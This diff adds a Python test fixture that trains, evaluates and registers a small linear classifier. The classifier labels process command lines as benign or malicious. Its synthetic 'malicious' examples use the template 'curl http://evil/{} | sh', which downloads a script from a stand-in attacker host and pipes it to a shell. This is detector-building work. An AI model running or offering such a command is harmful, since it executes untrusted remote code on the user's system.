@@ -1,0 +1,64 @@
+"""A real linear model on a few lines of text, with its report, ready to be registered."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from functools import cache
+from pathlib import Path
+from tempfile import mkdtemp
+
+from sftsec_core.api.contracts import RecipeSpec, TrainedModel, TrainJob
+from sftsec_core.api.domain import EvalReport, Example, ModelRef, Split, TaskSpec
+from sftsec_core.api.settings.task import GateSettings, ThresholdSettings, TrainSettings
+from sftsec_core.evaluation.evaluate import Fitted, evaluate
+from sftsec_core.plugins import Plugins
+from sftsec_core.recipes.linear import load_linear, train_linear
+from sftsec_core.registry import voters as votes
+from sftsec_core.registry.card import Provenance, build_card
+from sftsec_core.registry.gate import decide
+from sftsec_core.registry.registry import ModelRegistry
+from sftsec_core.registry.serving import Serving
+
+TASK = TaskSpec("commands", ("process.command_line",), ("benign", "malicious"), "benign")
+LINEAR = RecipeSpec("linear", "n-grams", 1, train_linear, load_linear)
+RECIPES: Mapping[str, RecipeSpec] = {"linear": LINEAR}
+TEXTS = {"benign": "ls -la /home/{}", "malicious": "curl http://evil/{} | sh"}
+
+
+def part(name: str, n: int) -> list[Example]:
+    return [
+        Example(f"{name}-{label}-{i}", text.format(f"{name}{i}"), label)
+        for label, text in TEXTS.items()
+        for i in range(n)
+    ]
+
+
+@cache
+def split() -> Split:
+    return Split(part("train", 20), part("dev", 8), part("test", 12))
+
+
+@cache
+def model() -> TrainedModel:
+    job = TrainJob(TASK, split().train, split().dev, TrainSettings(), Path(mkdtemp()))
+    return train_linear(job)
+
+
+@cache
+def report() -> EvalReport:
+    fitted = Fitted(model(), "linear", 0.1, cost=1)
+    data = {"leaks": 0, "snapshot": "ab" * 32}
+    return evaluate(
+        fitted, {"linear": fitted}, split(), TASK, threshold=ThresholdSettings(), data=data
+    )
+
+
+def card(run_id: str = "run-1") -> dict[str, object]:
+    gate = decide(Plugins.of_modules(votes), report(), None, GateSettings(min_labels=10))
+    return build_card(report(), gate, TASK, Provenance(run_id, snapshot="ab" * 32, seed=13))
+
+
+def register(registry: ModelRegistry, run_id: str = "run-1") -> ModelRef:
+    """Models of different runs differ in their cards, so in their digests."""
+    serving = Serving.of(report(), TASK, max_length=128, steps={"normalise": {}})
+    return registry.register(model(), serving, card(run_id), run_id=run_id)
